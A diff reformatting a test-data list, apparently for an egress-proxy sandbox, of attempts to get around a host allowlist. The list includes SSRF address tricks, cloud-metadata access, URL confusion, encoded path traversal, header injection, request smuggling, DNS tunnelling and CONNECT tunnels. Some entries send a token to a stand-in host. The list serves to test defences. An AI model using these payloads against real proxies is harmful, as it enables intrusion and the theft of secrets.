@@ -9,26 +9,82 @@ const reading = { wants: 'a request that is read in two ways', proof: isHeard } 
 const tunnel = { wants: 'a tunnel that nobody looks into', proof: isHeard } as const;
 
 export const proxyRows: readonly Attempt[] = [
-  { ...place, name: 'a host that nobody granted', code: `get('http://elsewhere.example/v2/' + token)` },
-  { ...place, name: 'a host that is pinned for another skill', code: `get('http://intranet.crm.example/v2/' + token)` },
-  { ...place, name: 'a path that was not granted', code: `get('http://api.crm.example/admin/' + token)` },
-  { ...place, name: 'a method that was not granted', code: `get('http://api.crm.example/v2/' + token, method='DELETE')` },
-  { ...place, name: 'a method of its own', code: `get('http://api.crm.example/v2/' + token, method='GETX')` },
-  { ...place, name: 'a port that was not granted', code: `get('http://api.crm.example:22/v2/' + token)` },
-  { ...place, name: 'an address in place of a name', code: `get('http://127.0.0.1:%d/v2/%s' % (port, token))` },
-  { ...place, name: 'an address as one number', code: `get('http://2130706433:%d/v2/%s' % (port, token))` },
-  { ...place, name: 'an address in octal', code: `get('http://0177.0.0.1:%d/v2/%s' % (port, token))` },
-  { ...place, name: 'an address of version 6', code: `get('http://[::1]:%d/v2/%s' % (port, token))` },
-  { ...place, name: 'an address of version 4 in version 6', code: `get('http://[::ffff:127.0.0.1]:%d/v2/%s' % (port, token))` },
-  { ...place, name: 'the metadata of a cloud', code: `get('http://169.254.169.254/latest/' + token)` },
+  {
+    ...place,
+    name: 'a host that nobody granted',
+    code: `get('http://elsewhere.example/v2/' + token)`,
+  },
+  {
+    ...place,
+    name: 'a host that is pinned for another skill',
+    code: `get('http://intranet.crm.example/v2/' + token)`,
+  },
+  {
+    ...place,
+    name: 'a path that was not granted',
+    code: `get('http://api.crm.example/admin/' + token)`,
+  },
+  {
+    ...place,
+    name: 'a method that was not granted',
+    code: `get('http://api.crm.example/v2/' + token, method='DELETE')`,
+  },
+  {
+    ...place,
+    name: 'a method of its own',
+    code: `get('http://api.crm.example/v2/' + token, method='GETX')`,
+  },
+  {
+    ...place,
+    name: 'a port that was not granted',
+    code: `get('http://api.crm.example:22/v2/' + token)`,
+  },
+  {
+    ...place,
+    name: 'an address in place of a name',
+    code: `get('http://127.0.0.1:%d/v2/%s' % (port, token))`,
+  },
+  {
+    ...place,
+    name: 'an address as one number',
+    code: `get('http://2130706433:%d/v2/%s' % (port, token))`,
+  },
+  {
+    ...place,
+    name: 'an address in octal',
+    code: `get('http://0177.0.0.1:%d/v2/%s' % (port, token))`,
+  },
+  {
+    ...place,
+    name: 'an address of version 6',
+    code: `get('http://[::1]:%d/v2/%s' % (port, token))`,
+  },
+  {
+    ...place,
+    name: 'an address of version 4 in version 6',
+    code: `get('http://[::ffff:127.0.0.1]:%d/v2/%s' % (port, token))`,
+  },
+  {
+    ...place,
+    name: 'the metadata of a cloud',
+    code: `get('http://169.254.169.254/latest/' + token)`,
+  },
   { ...place, name: 'localhost', code: `get('http://localhost:%d/v2/%s' % (port, token))` },
-  { ...place, name: 'a name that ends with a dot, on another path', code: `get('http://api.crm.example./admin/' + token)` },
+  {
+    ...place,
+    name: 'a name that ends with a dot, on another path',
+    code: `get('http://api.crm.example./admin/' + token)`,
+  },
   {
     ...place,
     name: 'a name that begins with the granted one',
     code: `get('http://api.crm.example.elsewhere.example/v2/' + token)`,
   },
-  { ...place, name: 'a name below the granted one', code: `get('http://%s.api.crm.example/v2/x' % token)` },
+  {
+    ...place,
+    name: 'a name below the granted one',
+    code: `get('http://%s.api.crm.example/v2/x' % token)`,
+  },
   {
     ...place,
     name: 'data in a name, as a tunnel through DNS',
@@ -39,13 +95,41 @@ export const proxyRows: readonly Attempt[] = [
     name: 'a user name that looks like the granted host',
     code: `get('http://api.crm.example@elsewhere.example/v2/' + token)`,
   },
-  { ...place, name: 'the granted host behind a sign', code: `get('http://elsewhere.example#@api.crm.example/v2/' + token)` },
-  { ...place, name: 'a host with a backslash', code: `get('http://elsewhere.example\\\\@api.crm.example/v2/' + token)` },
-  { ...place, name: 'a path that climbs with dots', code: `get('http://api.crm.example/v2/../admin/' + token)` },
-  { ...place, name: 'a path that climbs with encoded dots', code: `get('http://api.crm.example/v2/%2e%2e/admin/' + token)` },
-  { ...place, name: 'a path that climbs with an encoded slash', code: `get('http://api.crm.example/v2/..%2fadmin/' + token)` },
-  { ...place, name: 'a path that climbs with a backslash', code: `get('http://api.crm.example/v2/..\\\\admin/' + token)` },
-  { ...place, name: 'a path that begins with two slashes', code: `get('http://api.crm.example//elsewhere.example/v2/' + token)` },
+  {
+    ...place,
+    name: 'the granted host behind a sign',
+    code: `get('http://elsewhere.example#@api.crm.example/v2/' + token)`,
+  },
+  {
+    ...place,
+    name: 'a host with a backslash',
+    code: `get('http://elsewhere.example\\\\@api.crm.example/v2/' + token)`,
+  },
+  {
+    ...place,
+    name: 'a path that climbs with dots',
+    code: `get('http://api.crm.example/v2/../admin/' + token)`,
+  },
+  {
+    ...place,
+    name: 'a path that climbs with encoded dots',
+    code: `get('http://api.crm.example/v2/%2e%2e/admin/' + token)`,
+  },
+  {
+    ...place,
+    name: 'a path that climbs with an encoded slash',
+    code: `get('http://api.crm.example/v2/..%2fadmin/' + token)`,
+  },
+  {
+    ...place,
+    name: 'a path that climbs with a backslash',
+    code: `get('http://api.crm.example/v2/..\\\\admin/' + token)`,
+  },
+  {
+    ...place,
+    name: 'a path that begins with two slashes',
+    code: `get('http://api.crm.example//elsewhere.example/v2/' + token)`,
+  },
   {
     ...place,
     name: 'the place that an answer leads to',
@@ -57,7 +141,11 @@ to = re.search('Location: (\\\\S+)', answer).group(1); get(to.replace(token[::-1
     name: 'a target without a host',
     code: `send('GET /v2/%s HTTP/1.1\\nHost: api.crm.example\\nConnection: close\\n\\n' % token)`,
   },
-  { ...reading, name: 'another host in the header', code: `get('http://api.crm.example/v2/' + token, host='elsewhere.example')` },
+  {
+    ...reading,
+    name: 'another host in the header',
+    code: `get('http://api.crm.example/v2/' + token, host='elsewhere.example')`,
+  },
   {
     ...reading,
     name: 'two hosts in the headers',
@@ -104,14 +192,26 @@ send('POST http://api.crm.example/v2/x HTTP/1.1\\nHost: api.crm.example\\nConten
     name: 'a header with a bare carriage return',
     code: `get('http://api.crm.example/v2/' + token, headers='X-A: b\\rHost: elsewhere.example\\n')`,
   },
-  { ...reading, name: 'a header with a NUL', code: `get('http://api.crm.example/v2/' + token, headers='X-A: b\\0c\\n')` },
+  {
+    ...reading,
+    name: 'a header with a NUL',
+    code: `get('http://api.crm.example/v2/' + token, headers='X-A: b\\0c\\n')`,
+  },
   {
     ...reading,
     name: 'a request before the answer to the one before it',
     code: `one = 'GET http://api.crm.example/v2/%s HTTP/1.1\\nHost: api.crm.example\\n\\n'; send(one % 'x' + (one % token).replace('/v2/', '/admin/'))`,
   },
-  { ...reading, name: 'version 0.9', code: `send('GET http://api.crm.example/v2/%s\\n\\n' % token)` },
-  { ...reading, name: 'the beginning of version 2', code: `send('PRI * HTTP/2.0\\n\\nSM\\n\\n' + token)` },
+  {
+    ...reading,
+    name: 'version 0.9',
+    code: `send('GET http://api.crm.example/v2/%s\\n\\n' % token)`,
+  },
+  {
+    ...reading,
+    name: 'the beginning of version 2',
+    code: `send('PRI * HTTP/2.0\\n\\nSM\\n\\n' + token)`,
+  },
   {
     ...reading,
     name: 'an upgrade to version 2',
@@ -122,7 +222,11 @@ send('POST http://api.crm.example/v2/x HTTP/1.1\\nHost: api.crm.example\\nConten
     name: 'a tunnel to a host that nobody granted',
     code: `send('CONNECT elsewhere.example:443 HTTP/1.1\\nHost: elsewhere.example:443\\n\\n', token)`,
   },
-  { ...tunnel, name: 'a tunnel to an address', code: `send('CONNECT 127.0.0.1:%d HTTP/1.1\\nHost: x\\n\\n' % port, token)` },
+  {
+    ...tunnel,
+    name: 'a tunnel to an address',
+    code: `send('CONNECT 127.0.0.1:%d HTTP/1.1\\nHost: x\\n\\n' % port, token)`,
+  },
   {
     ...tunnel,
     name: 'a tunnel to a port that was not granted',
